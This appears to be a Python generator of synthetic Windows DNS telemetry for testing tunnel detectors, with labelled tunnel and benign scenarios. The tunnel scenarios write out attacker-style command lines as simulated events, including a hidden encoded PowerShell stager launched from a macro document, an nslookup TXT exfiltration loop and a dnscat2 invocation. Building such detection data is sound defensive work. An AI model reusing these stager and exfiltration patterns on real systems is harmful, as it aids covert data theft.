# SPDX-License-Identifier: Apache-2.0
"""What is told: tunnels by programs of Windows, and ordinary days that look like some.

Each scenario is a function that lets things happen on a machine; behind it runs the same background
of other programs. Names of real services stand for what any office asks for; the tunnels' domains
are made up.
"""

import base64
import datetime
import random

import windows_events as w

SITES = """
www.google.com fonts.googleapis.com fonts.gstatic.com www.youtube.com i.ytimg.com www.wikipedia.org
upload.wikimedia.org github.com avatars.githubusercontent.com stackoverflow.com cdn.sstatic.net
www.bbc.co.uk ichef.bbci.co.uk www.nytimes.com static01.nyt.com www.linkedin.com static.licdn.com
www.amazon.com m.media-amazon.com www.reddit.com www.redditstatic.com cdn.jsdelivr.net
www.googletagmanager.com www.google-analytics.com connect.facebook.net js.stripe.com
ajax.cloudflare.com unpkg.com accounts.google.com www.spiegel.de www.heise.de news.ycombinator.com
""".split()
OFFICE = """
outlook.office365.com login.microsoftonline.com graph.microsoft.com teams.microsoft.com
substrate.office.com nexusrules.officeapps.live.com ecs.office.com config.edge.skype.com
presence.teams.microsoft.com s-0005.s-msedge.net
""".split()
SYSTEM_NAMES = """
ctldl.windowsupdate.com settings-win.data.microsoft.com v10.events.data.microsoft.com
fe3cr.delivery.mp.microsoft.com time.windows.com www.msftconnecttest.com wpad dc1.corp.example.net
dc2.corp.example.net _ldap._tcp.dc._msdcs.corp.example.net wdcp.microsoft.com
""".split()


def addresses(rng, n=1):
    return "".join(f"::ffff:{rng.randrange(13, 210)}.{rng.randrange(256)}.{rng.randrange(256)}."
                   f"{rng.randrange(1, 255)};" for _ in range(n))


def alias(rng, name):
    return f"type:  5 {name}.edgekey.net;type:  5 e{rng.randrange(1000, 9999)}.a.akamaiedge.net;" \
        + addresses(rng, 1)


def usual_results(rng, name):
    return alias(rng, name) if rng.random() < 0.3 else addresses(rng, rng.randrange(1, 4))


def draw(rng, alphabet, n):
    return "".join(rng.choice(alphabet) for _ in range(n))


HEX = "0123456789abcdef"
BASE32 = "abcdefghijklmnopqrstuvwxyz234567"


# ------------------------------------------------------------- background

class Office:
    """The programs of an ordinary machine."""

    def __init__(self, machine):
        m = machine
        self.chrome = m.start(w.CHROME)
        self.outlook = m.start(w.OUTLOOK)
        self.teams = m.start(w.TEAMS)
        self.onedrive = m.start(w.ONEDRIVE, "/background")
        self.svchost = m.start(w.SVCHOST, "-k netsvcs -p", m.services, w.SYSTEM)
        self.defender = m.start(w.DEFENDER, "", m.services, w.SYSTEM)


def background(machine, hours):
    """Other programs at their work, a few lookups a minute."""
    rng, office = machine.rng, Office(machine)
    for _ in w.at(machine, hours, 18, 0.9):
        kind = rng.random()
        if kind < 0.45:
            page(machine, office.chrome, rng.choice(SITES))
        elif kind < 0.65:
            program = rng.choice([office.outlook, office.teams, office.onedrive])
            fetch(machine, program, rng.choice(OFFICE))
        elif kind < 0.85:
            fetch(machine, rng.choice([office.svchost, office.defender]), rng.choice(SYSTEM_NAMES))
        elif kind < 0.93:
            short_lived(machine)
        else:
            machine.noise(rng.choice([office.svchost, office.chrome]))


def fetch(machine, program, name):
    rng = machine.rng
    if name == "wpad":
        machine.look_up(program, name, status=w.STATUS_NAME_ERROR)
        return
    results = usual_results(rng, name)
    machine.look_up(program, name, results)
    machine.connect(program, results.split("::ffff:")[-1].rstrip(";"), 443)


def page(machine, program, site):
    """A page and what it embeds."""
    rng = machine.rng
    fetch(machine, program, site)
    for _ in range(rng.randrange(0, 4)):
        machine.now += datetime.timedelta(milliseconds=rng.randrange(20, 400))
        fetch(machine, program, rng.choice(SITES))
    if rng.random() < 0.3:
        # names that content networks make up
        machine.look_up(program, f"d{draw(rng, HEX, 13)}.cloudfront.net", addresses(rng, 4))


def short_lived(machine):
    rng = machine.rng
    image, options = rng.choice([
        ("C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1"),
        ("C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:App.AppX"),
        ("C:\\Windows\\System32\\gpupdate.exe", "/target:computer"),
        ("C:\\Windows\\System32\\taskhostw.exe", ""),
    ])
    p = machine.start(image, options, machine.services, w.SYSTEM)
    machine.now += datetime.timedelta(seconds=rng.uniform(0.2, 3))
    machine.end(p)


# --------------------------------------------------------------- tunnels

def powershell_stager(machine, _hours):
    """A document starts PowerShell, which fetches its next stage in 1,200 TXT records."""
    rng, zone = machine.rng, "cdn-sync-edge.net"
    word = machine.start(w.WINWORD, '/n "C:\\Users\\ann\\Downloads\\invoice.docm"')
    script = base64.b64encode("iex (stage)".encode("utf-16-le")).decode()
    p = machine.start(w.POWERSHELL, f"-NoP -W Hidden -enc {script}", word)
    session = draw(rng, HEX, 6)
    for i in range(1200):
        machine.now += datetime.timedelta(seconds=rng.uniform(0.2, 1.1))
        name = f"{i:04x}.{session}{draw(rng, BASE32, 26)}.s.{zone}"
        machine.look_up(p, name, "type:  16 ;")
    return p, zone


def rundll32_beacon(machine, hours):
    """A library in rundll32 calls home each minute, 30 % more or less, with bursts of data."""
    rng, zone = machine.rng, "update-telemetry-hub.com"
    p = machine.start(w.RUNDLL32, "C:\\ProgramData\\cache.dll,Run", machine.root)
    for _ in w.at(machine, hours, 60, 0.3):
        machine.look_up(p, f"{draw(rng, HEX, 24)}.{zone}", addresses(rng))
        if rng.random() < 0.08:
            for _ in range(rng.randrange(10, 40)):
                machine.now += datetime.timedelta(seconds=rng.uniform(0.3, 0.9))
                name = f"{draw(rng, HEX, 56)}.{draw(rng, HEX, 8)}.{zone}"
                machine.look_up(p, name, addresses(rng))
    return p, zone


def nslookup_loop(machine, hours):
    """A batch file sends a file, one nslookup after the other: Sysmon 22 sees none of them."""
    rng, zone = machine.rng, "quiet-orchard.info"
    shell = machine.start(w.CMD, "/c C:\\Users\\ann\\AppData\\Local\\Temp\\s.bat")
    for i in range(700):
        machine.now += datetime.timedelta(seconds=rng.uniform(0.4, 2.5))
        p = machine.start(w.NSLOOKUP, f"-type=TXT {i}-{draw(rng, BASE32, 48)}.x.{zone}", shell)
        machine.connect(p, machine.resolver, 53, "udp")
        machine.now += datetime.timedelta(milliseconds=40)
        machine.end(p)
    return p, zone


def upload(machine, _hours):
    """A program of its own makes sends 60 kB in names that do not exist."""
    rng, zone = machine.rng, "blob-archive-node.org"
    p = machine.start("C:\\Users\\ann\\AppData\\Roaming\\svcupd.exe", "--quiet")
    for i in range(1500):
        machine.now += datetime.timedelta(seconds=rng.uniform(0.05, 0.5))
        name = f"{draw(rng, BASE32, 50)}.{draw(rng, BASE32, 18)}{i:x}.{zone}"
        machine.look_up(p, name, status=w.STATUS_NAME_ERROR)
    return p, zone


def direct_tunnel(machine, hours):
    """A tunnel client with its own resolver: a command line and thousands of flows to port 53."""
    zone = "relay-gate-cdn.com"
    p = machine.start("C:\\Users\\ann\\Downloads\\dnscat2.exe", f"--dns domain=t.{zone}")
    for _ in w.at(machine, min(hours, 2), 3, 0.5):
        machine.connect(p, "203.0.113.53", 53, "udp")
    return p, zone


def script_poll(machine, hours):
    """A script under the task scheduler asks for orders, slowly, and gets them in addresses."""
    rng, zone = machine.rng, "metrics-collect.net"
    service = machine.start(w.SVCHOST, "-k netsvcs -p -s Schedule", machine.services, w.SYSTEM)
    p = machine.start("C:\\Windows\\System32\\wscript.exe", "//B C:\\ProgramData\\t.vbs", service)
    for _ in w.at(machine, hours, 25, 0.2):
        name = f"{draw(rng, BASE32, 32)}.{draw(rng, BASE32, 8)}.{zone}"
        machine.look_up(p, name, "2001:db8:%x:%x::%x;" % tuple(rng.randrange(65536)
                                                               for _ in range(3)))
    return p, zone


# --------------------------------------------------------- ordinary days

def busy_browser(machine, hours):
    """Somebody reads the news with forty tabs open."""
    p = machine.start(w.CHROME, "--profile-directory=Default")
    for _ in w.at(machine, hours, 9, 0.9):
        page(machine, p, machine.rng.choice(SITES))
    return p, None


def security_product(machine, hours):
    """A scanner asks its maker about files by their hash."""
    rng = machine.rng
    p = machine.start("C:\\Program Files\\McAfee\\Endpoint Security\\mfetp.exe", "",
                      machine.services, w.SYSTEM)
    for _ in w.at(machine, hours, 40, 0.8):
        name = f"4z9p5tjmcbnblehp4557z1d136.{draw(rng, BASE32, 26)}.avqs.mcafee.com"
        machine.look_up(p, name, "::ffff:127.0.0.8;")
    return p, None


def domain_member(machine, hours):
    """Services of a domain member: records of services, names that do not exist, the same again."""
    rng = machine.rng
    lsass = machine.start("C:\\Windows\\System32\\lsass.exe", "", machine.services, w.SYSTEM)
    names = [f"_{s}._tcp.{p}" for s in ("ldap", "kerberos", "gc")
             for p in ("dc._msdcs.corp.example.net", "site1._sites.dc._msdcs.corp.example.net")]
    for _ in w.at(machine, hours, 12, 0.7):
        if rng.random() < 0.5:
            machine.look_up(lsass, rng.choice(names),
                            f"type:  33 dc1.corp.example.net;{addresses(rng)}")
        else:
            machine.look_up(lsass, rng.choice(["wpad", "isatap", "wpad.corp.example.net"]),
                            status=w.STATUS_NAME_ERROR)
    return lsass, None


def monitoring_agent(machine, hours):
    """An agent that asks for its server every half minute, on the second."""
    p = machine.start("C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe", "-c agent.conf",
                      machine.services, w.SYSTEM)
    for _ in w.at(machine, hours, 30, 0.001):
        machine.look_up(p, "monitor.corp.example.net", "::ffff:10.0.0.77;")
    return p, None


def inventory_script(machine, _hours):
    """An administrator resolves all machines of the company in PowerShell."""
    p = machine.start(w.POWERSHELL, "-File C:\\Admin\\inventory.ps1", machine.root)
    for i in range(600):
        machine.now += datetime.timedelta(seconds=machine.rng.uniform(0.1, 0.6))
        status = w.STATUS_NAME_ERROR if machine.rng.random() < 0.1 else w.STATUS_OK
        results = f"::ffff:10.0.{i // 250}.{i % 250 + 1};" if status == w.STATUS_OK else ""
        machine.look_up(p, f"WS{i:04d}.corp.example.net", results, status)
    return p, None


def help_desk(machine, _hours):
    """Somebody looks for a fault with nslookup, by hand."""
    shell = machine.start(w.CMD, "", machine.root)
    for name in ("mail.corp.example.net", "www.google.com", "-type=MX corp.example.net",
                 "-type=TXT google.com", "outlook.office365.com 8.8.8.8", "dc1.corp.example.net"):
        machine.now += datetime.timedelta(seconds=machine.rng.uniform(8, 90))
        p = machine.start(w.NSLOOKUP, name, shell)
        machine.connect(p, "8.8.8.8" if name.endswith("8.8.8.8") else machine.resolver, 53, "udp")
        machine.end(p)
    return p, None


TUNNELS = {f.__name__: f for f in (powershell_stager, rundll32_beacon, nslookup_loop, upload,
                                   direct_tunnel, script_poll)}
ORDINARY = {f.__name__: f for f in (busy_browser, security_product, domain_member,
                                    monitoring_agent, inventory_script, help_desk)}


def make(name, hours, seed):
    """The events of the scenario @name, in order of time, and what there is to find in them."""
    story = TUNNELS.get(name) or ORDINARY[name]
    rng = random.Random(f"windows {name} {seed}")
    host = f"WS-{rng.randrange(100, 999)}.corp.example.net"
    machine = w.Machine(rng, host, f"10.0.7.{rng.randrange(2, 250)}", "CORP\\ann")
    background(machine, hours)
    machine.now = w.START + datetime.timedelta(minutes=rng.randrange(5, 25))
    program, zone = story(machine, hours)
    machine.events.sort(key=lambda e: e["time"])
    for i, e in enumerate(machine.events):
        e["record"] = 10_000 + i
    found = {"scenario": name, "label": "tunnel" if zone else "benign", "host": host,
             "image": program.image, "domain": zone or "-"}
    return machine.events, found


def as_dns_client(events):
    """The same lookups as the DNS client logs them, with the type and without the program."""
    out = []
    for e in events:
        if e["id"] != 22:
            continue
        v = e["values"]
        qtype = "16" if v["QueryResults"].startswith("type:  16") else "1"
        call = {"QueryName": v["QueryName"], "QueryType": qtype, "QueryOptions": "0"}
        pid = int(v["ProcessId"])
        out.append({**e, "id": 3006, "writer": pid, "values": {**call, "ServerList": ""}})
        out.append({**e, "id": 3008, "writer": pid,
                    "time": e["time"] + datetime.timedelta(milliseconds=23),
                    "values": {**call, "QueryStatus": v["QueryStatus"],
                               "QueryResults": v["QueryResults"].lstrip("-")}})
    return sorted(out, key=lambda e: e["time"])
